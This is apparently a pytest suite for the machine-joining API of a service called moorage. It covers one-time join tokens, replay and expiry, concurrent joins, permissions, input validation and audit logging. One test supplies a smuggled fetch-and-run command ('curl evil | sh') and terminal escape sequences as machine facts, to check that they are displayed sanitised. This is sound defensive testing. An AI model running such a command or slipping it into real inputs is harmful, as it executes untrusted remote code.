"""Machines through the API: added by the operator, joined by themselves, and what may be said about them."""

import asyncio
import hashlib
import re
import shlex
from collections import Counter
from typing import Any

import httpx
import pytest
from api_support import ANONYMOUS, KEYRING, Api, Asker, assert_problem, bearer, join_body, new_home
from api_support import api_fixture as api_fixture

from moorage.entrypoints.api import create_app
from moorage.machines.repository import list_engine_machines, note_replicas
from moorage.machines.states import MachineState
from moorage.tunnel.keys import new_private_key, public_key_of


@pytest.fixture(name="cloud")
async def cloud_fixture(api: Api) -> Api:
    """An installation that has an https:// address, and a hub."""
    settings = api.settings.model_copy(update={"public_url": "https://cloud.moorage.example"})
    await api.new_hub()
    return Api(create_app(settings, api.database, KEYRING), api.database, settings)


async def added(cloud: Api, **wish: Any) -> dict[str, Any]:
    answer = await cloud.post(cloud.operator, "/operator/machines", {"infrastructure": "operator", **wish})
    assert answer.status_code == 201, answer.text
    found: dict[str, Any] = answer.json()
    return found


async def joined(cloud: Api, **changes: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """The answer, and what the machine brought."""
    body = join_body((await added(cloud))["token"], **changes)
    answer = await cloud.post(ANONYMOUS, "/machines/join", body)
    assert answer.status_code == 200, answer.text
    return answer.json(), body


async def test_add_and_join(cloud: Api) -> None:
    machine = await added(cloud)
    assert re.fullmatch(r"mch_[a-z2-7]{20}", machine["id"])
    assert machine["command"].count("\n") == 0
    assert machine["token"] in machine["command"]
    shown = (await cloud.get(cloud.operator, f"/machines/{machine['id']}")).json()
    assert (shown["state"], shown["name"], shown["address"]) == ("joining", None, None)
    answer = await cloud.post(ANONYMOUS, "/machines/join", join_body(machine["token"]))
    membership = answer.json()
    assert (membership["id"], membership["name"], membership["address"]) == (
        machine["id"],
        "rack-7",
        "198.19.1.0",
    )
    assert [hub["endpoint"] for hub in membership["hubs"]] == ["hub.example:51820"]
    shown = (await cloud.get(cloud.operator, f"/machines/{machine['id']}")).json()
    assert (shown["state"], shown["name"], shown["gpus"]) == ("joining", "rack-7", ["NVIDIA L4"])
    listed = (await cloud.get(cloud.operator, "/operator/machines")).json()["items"]
    assert [one["id"] for one in listed] == [machine["id"]]
    actions = await cloud.rows("SELECT actor, action FROM audit_records WHERE target = :id", id=machine["id"])
    assert [(action, actor == machine["id"]) for actor, action in actions] == [
        ("machine.add", False),
        ("machine.join", True),
    ]


async def test_the_command_names_the_script_by_its_hash(cloud: Api) -> None:
    command = (await added(cloud))["command"]
    assert "--proto '=https'" in command
    script = await cloud.get(ANONYMOUS, "/machines/join.sh")
    assert script.status_code == 200
    assert hashlib.sha256(script.content).hexdigest() in command
    bundle = await cloud.get(ANONYMOUS, "/machines/moorage.tar.gz")
    assert hashlib.sha256(bundle.content).hexdigest() in script.text
    assert not re.search(r"@[A-Z_0-9]+@", script.text), "every placeholder is filled"
    arguments = shlex.split(command.rpartition("| $(command -v sudo) ")[2])
    assert arguments == ["sh", "$f"], "no list of processes shows the token"


async def test_without_https_nothing_is_added(api: Api) -> None:
    answer = await api.post(api.operator, "/operator/machines", {"infrastructure": "operator"})
    assert_problem(answer, 409, "https_needed")
    assert await api.rows("SELECT 1 FROM machines") == []


async def test_secrets_are_not_kept_as_they_are(cloud: Api) -> None:
    _, body = await joined(cloud)
    dump = await cloud.dump()
    for name in ("token", "credential", "secret"):
        assert body[name] not in dump
        assert body[name].encode().hex() not in dump
        assert not any(body[name] in answer for answer in cloud.answers[1:]), f"{name} was answered"


async def test_an_answer_that_was_lost_is_given_again(cloud: Api) -> None:
    first, body = await joined(cloud)
    again = await cloud.post(ANONYMOUS, "/machines/join", body)
    assert again.json() == first
    assert len(await cloud.rows("SELECT 1 FROM audit_records WHERE action = 'machine.join'")) == 1


@pytest.mark.parametrize("other", ["public_key", "credential", "secret"])
async def test_a_used_token_lets_nobody_else_in(cloud: Api, other: str) -> None:
    _, body = await joined(cloud)
    replay = body | {other: join_body("")[other]}
    before = await cloud.rows("SELECT * FROM machines")
    assert_problem(await cloud.post(ANONYMOUS, "/machines/join", replay), 401, "join_token_refused")
    assert await cloud.rows("SELECT * FROM machines") == before


async def test_a_token_runs_out(cloud: Api) -> None:
    machine = await added(cloud)
    await cloud.execute("UPDATE machine_join_tokens SET expires_at = now()")
    answer = await cloud.post(ANONYMOUS, "/machines/join", join_body(machine["token"]))
    assert_problem(answer, 401, "join_token_refused")
    lifetime = await cloud.rows(
        "SELECT extract(epoch FROM t.expires_at - m.created_at) FROM machine_join_tokens t JOIN machines m ON m.id = machine_id"
    )
    assert float(lifetime[0][0]) < 1800
    _, body = await joined(cloud)
    await cloud.execute("UPDATE machine_join_tokens SET expires_at = now()")
    assert_problem(await cloud.post(ANONYMOUS, "/machines/join", body), 401, "join_token_refused")


async def test_another_command_ends_the_one_before(cloud: Api) -> None:
    first = await added(cloud, name="rack-7")
    listed = (await cloud.get(cloud.operator, "/operator/machines")).json()["items"]
    assert [one["joins_until"] for one in listed] == [first["expires_at"]]
    path = f"/machines/{first['id']}/command"
    second = (await cloud.post(cloud.operator, path)).json()
    assert second["id"] == first["id"]
    assert second["token"] in second["command"]
    assert second["expires_at"] > first["expires_at"]
    late = await cloud.post(ANONYMOUS, "/machines/join", join_body(first["token"]))
    assert_problem(late, 401, "join_token_refused")
    assert (await cloud.post(ANONYMOUS, "/machines/join", join_body(second["token"]))).status_code == 200
    assert_problem(await cloud.post(cloud.operator, path), 409, "machine_joined")
    shown = (await cloud.get(cloud.operator, f"/machines/{first['id']}")).json()
    assert (shown["state"], shown["joins_until"]) == ("joining", None)
    await cloud.ask(cloud.operator, "DELETE", f"/api/v1/machines/{first['id']}")
    assert_problem(await cloud.post(cloud.operator, path), 409, "machine_removed")
    assert_problem(await cloud.post(cloud.operator, "/machines/mch_absent/command"), 404)


async def test_the_operator_reads_why_the_tunnel_is_not_open(cloud: Api) -> None:
    async def tunnel() -> tuple[str, str]:
        answer = (await cloud.get(cloud.operator, "/operator/tunnel")).json()
        return answer["state"], answer["message"]

    assert (await tunnel())[0] == "not_needed"
    await added(cloud)
    assert (await tunnel())[0] == "open"
    await cloud.execute("UPDATE tunnel_hubs SET error = 'wg is not installed.'")
    assert await tunnel() == (
        "failing",
        "The installation's end of the tunnel is not open. wg is not installed.",
    )
    await cloud.execute("UPDATE tunnel_hubs SET error = NULL, seen_at = now() - interval '2 minutes'")
    state, message = await tunnel()
    assert state == "failing"
    assert "No gateway has reported on it" in message
    await cloud.execute("DELETE FROM tunnel_hubs")
    assert (await tunnel())[0] == "opening"


async def test_a_removed_machines_token_lets_nobody_in(cloud: Api) -> None:
    machine = await added(cloud)
    assert (await cloud.ask(cloud.operator, "DELETE", f"/api/v1/machines/{machine['id']}")).status_code == 204
    answer = await cloud.post(ANONYMOUS, "/machines/join", join_body(machine["token"]))
    assert_problem(answer, 401, "join_token_refused")


async def decided(cloud: Api, body: dict[str, Any]) -> httpx.Response:
    """Whoever is told that the service is busy asks again: the others keep it busy here."""
    while (answer := await cloud.post(ANONYMOUS, "/machines/join", body)).status_code == 503:
        assert_problem(answer, 503, "busy")
    return answer


async def test_of_many_who_bring_one_token_one_gets_in(cloud: Api) -> None:
    token = (await added(cloud))["token"]
    answers = await asyncio.gather(*(decided(cloud, join_body(token)) for _ in range(20)))
    assert Counter(answer.status_code for answer in answers) == {200: 1, 401: 19}
    print("of 20 machines with one token at once, 1 got in")


async def test_machines_that_join_at_once_share_nothing(cloud: Api) -> None:
    tokens = [(await added(cloud))["token"] for _ in range(8)]
    answers = await asyncio.gather(*(decided(cloud, join_body(token)) for token in tokens))
    assert [answer.status_code for answer in answers] == [200] * 8, answers[0].text
    assert len({answer.json()["address"] for answer in answers}) == 8
    assert len({answer.json()["name"] for answer in answers}) == 8, "all of them call themselves rack-7"


async def test_a_key_belongs_to_one_machine(cloud: Api) -> None:
    _, body = await joined(cloud)
    token = (await added(cloud))["token"]
    answer = await cloud.post(ANONYMOUS, "/machines/join", join_body(token, public_key=body["public_key"]))
    assert_problem(answer, 422, "key_in_use")
    retry = await cloud.post(ANONYMOUS, "/machines/join", join_body(token))
    assert retry.status_code == 200, "the token was not used up"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("public_key", "x" * 44),
        ("public_key", "A" * 43 + "="),
        ("credential", "short"),
        ("secret", "moor_mch_" + "a" * 36),
        ("hostname", "../etc"),
        ("hostname", "a b"),
        ("hostname", "A" * 70),
        ("facts", {"architecture": "x" * 5000}),
        ("state", "active"),
    ],
)
async def test_bad_input(cloud: Api, field: str, value: Any) -> None:
    token = (await added(cloud))["token"]
    answer = await cloud.post(ANONYMOUS, "/machines/join", join_body(token) | {field: value})
    assert_problem(answer, 422, "invalid_input")


async def test_what_a_machine_says_of_itself_is_one_line_that_can_be_seen(cloud: Api) -> None:
    facts = join_body("")["facts"]
    machine, _ = await joined(
        cloud, facts=facts | {"kernel": "6.1\x1b[2J\u202e", "gpus": ["L4\n  curl evil | sh"]}
    )
    shown = (await cloud.get(cloud.operator, f"/machines/{machine['id']}")).json()
    assert shown["facts"]["kernel"] == "6.1\ufffd[2J\ufffd"
    assert shown["gpus"] == ["L4 curl evil | sh"]


async def test_without_a_hub_a_machine_hears_why(cloud: Api) -> None:
    token = (await added(cloud))["token"]
    await cloud.execute("UPDATE tunnel_hubs SET error = 'wg is not installed.'")
    body = join_body(token)
    problem = assert_problem(await cloud.post(ANONYMOUS, "/machines/join", body), 503, "no_tunnel")
    assert "wg is not installed." in problem["detail"]
    await cloud.execute("UPDATE tunnel_hubs SET error = NULL")
    assert (await cloud.post(ANONYMOUS, "/machines/join", body)).status_code == 200


async def test_its_life(cloud: Api) -> None:
    machine_id = await cloud.new_machine()
    for verb, state in (
        ("pause", "paused"),
        ("drain", "draining"),
        ("drain", "draining"),
        ("resume", "active"),
    ):
        answer = await cloud.post(cloud.operator, f"/machines/{machine_id}/{verb}")
        assert (answer.status_code, answer.json()["state"]) == (200, state)
    records = await cloud.rows(
        "SELECT action, details ->> 'name' FROM audit_records WHERE target = :id ORDER BY action",
        id=machine_id,
    )
    verbs = ("drain", "pause", "resume")
    assert [tuple(row) for row in records] == [
        (f"machine.{verb}", machine_id.replace("_", "-")) for verb in verbs
    ]
    subjects = [mail["subject"] for mail in await cloud.mails()]
    name = machine_id.replace("_", "-")
    assert set(subjects) == {
        f"The machine {name} {does}" for does in ("is paused", "drains", "is active again")
    }


async def test_replicas_are_in_the_way_of_removing(cloud: Api) -> None:
    """As they are now: what the machine's row says of them is some seconds old."""
    machine_id = await cloud.new_machine()
    path = f"/api/v1/machines/{machine_id}"
    home = await new_home(cloud)
    replica_id = await cloud.new_replica(await cloud.new_container(home.project_id, "chat"))
    await cloud.execute(
        "UPDATE replicas SET engine = :engine WHERE id = :id", engine=machine_id, id=replica_id
    )
    refused = await cloud.ask(cloud.operator, "DELETE", path)
    assert_problem(refused, 409, "machine_in_use")
    assert "1 replica runs" in refused.json()["detail"]
    await cloud.execute("UPDATE replicas SET state = 'stopped' WHERE engine = :engine", engine=machine_id)
    async with cloud.database.transaction() as session:
        await note_replicas(session, {machine_id.replace("_", "-"): 1})
    assert (await cloud.ask(cloud.operator, "DELETE", path)).status_code == 204
    assert (await cloud.ask(cloud.operator, "DELETE", path)).status_code == 204, "said twice"
    assert_problem(await cloud.post(cloud.operator, f"/machines/{machine_id}/resume"), 409, "machine_removed")
    assert (await cloud.get(cloud.operator, "/operator/machines")).json()["items"] == []
    assert (await cloud.get(cloud.operator, f"/machines/{machine_id}")).json()["state"] == "removed"
    row = await cloud.rows(
        "SELECT sealed_credential, secret_hash FROM machines WHERE id = :id", id=machine_id
    )
    assert tuple(row[0]) == (None, None)


async def test_force(cloud: Api) -> None:
    machine_id = await cloud.new_machine(replicas=3)
    answer = await cloud.ask(cloud.operator, "DELETE", f"/api/v1/machines/{machine_id}?force=true")
    assert answer.status_code == 204


async def test_an_address_is_never_given_twice(cloud: Api) -> None:
    first, _ = await joined(cloud)
    await cloud.ask(cloud.operator, "DELETE", f"/api/v1/machines/{first['id']}")
    second, _ = await joined(cloud)
    assert second["address"] != first["address"]
    assert second["name"] == first["name"], "a name may come again"


async def test_a_machine_speaks_for_itself_alone(cloud: Api) -> None:
    one, body = await joined(cloud)
    other, other_body = await joined(cloud)
    me, stranger = bearer("machine", body["secret"]), bearer("other machine", other_body["secret"])
    path = f"/machines/{one['id']}"
    assert (await cloud.get(me, f"{path}/membership")).json() == one
    key = public_key_of(new_private_key())
    for asker in (ANONYMOUS, stranger, bearer("wrong", body["credential"]), cloud.operator):
        assert_problem(await cloud.get(asker, f"{path}/membership"), 401)
        answer = await cloud.ask(asker, "PUT", f"/api/v1{path}/key", json={"public_key": key})
        assert_problem(answer, 401)
        assert_problem(await cloud.post(asker, f"{path}/leave"), 401)
    for verb in ("pause", "resume", "drain"):
        assert_problem(await cloud.post(me, f"{path}/{verb}"), 401)
    renewed = await cloud.ask(me, "PUT", f"/api/v1{path}/key", json={"public_key": key})
    assert renewed.status_code == 204
    again = await cloud.ask(me, "PUT", f"/api/v1{path}/key", json={"public_key": key})
    assert again.status_code == 204, "its answer was lost"
    other_key = {"public_key": public_key_of(new_private_key())}
    assert_problem(await cloud.ask(me, "PUT", f"/api/v1{path}/key", json=other_key), 429)
    taken = await cloud.ask(stranger, "PUT", f"/api/v1/machines/{other['id']}/key", json={"public_key": key})
    assert_problem(taken, 422, "key_in_use")
    assert (await cloud.post(me, f"{path}/leave")).status_code == 204
    assert_problem(await cloud.get(me, f"{path}/membership"), 401)
    assert [mail["subject"] for mail in await cloud.mails()] == ["The machine rack-7 has left"]


async def test_who_may(cloud: Api) -> None:
    machine_id = await cloud.new_machine()
    home = await new_home(cloud)
    for path in (f"/machines/{machine_id}", "/machines/mch_absent", "/operator/machines"):
        assert_problem(await cloud.get(ANONYMOUS, path), 401)
        assert_problem(await cloud.get(home.admin, path), 403 if path.startswith("/operator") else 404)
    assert_problem(await cloud.get(cloud.operator, "/machines/mch_absent"), 404)
    assert_problem(await cloud.post(cloud.operator, "/machines/mch_absent/pause"), 404)
    assert_problem(await cloud.ask(cloud.operator, "DELETE", "/api/v1/machines/mch_absent"), 404)


async def test_add_is_idempotent(cloud: Api) -> None:
    asker = Asker("operator", {**cloud.operator.headers, "Idempotency-Key": "one"})
    first, second = await added_by(cloud, asker), await added_by(cloud, asker)
    assert first == second
    assert len(await cloud.rows("SELECT 1 FROM machines")) == 1
    assert_problem(await cloud.post(asker, "/operator/machines", {"name": "other"}), 422)
    named = await added(cloud, name="rack-1")
    assert named["id"] != first["id"]
    taken = await cloud.post(cloud.operator, "/operator/machines", {"name": "rack-1"})
    assert_problem(taken, 409, "name_taken")
    assert_problem(
        await cloud.post(cloud.operator, "/operator/machines", {"infrastructure": "community"}), 422
    )


async def test_no_machine_takes_the_name_of_the_one_that_moorage_runs_on(cloud: Api) -> None:
    await cloud.new_doubt("headquarters")  # which is a machine of the installation itself
    taken = await cloud.post(cloud.operator, "/operator/machines", {"name": "headquarters"})
    assert_problem(taken, 409, "name_taken")
    membership, _ = await joined(cloud, hostname="headquarters")
    assert re.fullmatch(r"headquarters-[a-z2-7]{6}", membership["name"])


async def added_by(cloud: Api, asker: Asker) -> dict[str, Any]:
    found: dict[str, Any] = (await cloud.post(asker, "/operator/machines", {})).json()
    return found


async def test_which_machines_have_an_engine(cloud: Api) -> None:
    states = {state: await _in_state(cloud, state) for state in MachineState}
    async with cloud.database.reading() as session:
        found = {machine.id: machine for machine in await list_engine_machines(session, KEYRING)}
    assert {machine.state for machine in found.values()} == {
        *("verifying", "probation", "active", "paused", "draining", "lost")
    }
    assert found[states[MachineState.ACTIVE]].credential == "moor_node_test"
    assert "moor_node_test" not in repr(found)


async def _in_state(cloud: Api, state: MachineState) -> Any:
    without = {"sealed_credential": None, "secret_hash": None} if state is MachineState.REMOVED else {}
    before = {"state_before_loss": "active"} if state is MachineState.LOST else {}
    return await cloud.new_machine(state, **without, **before)
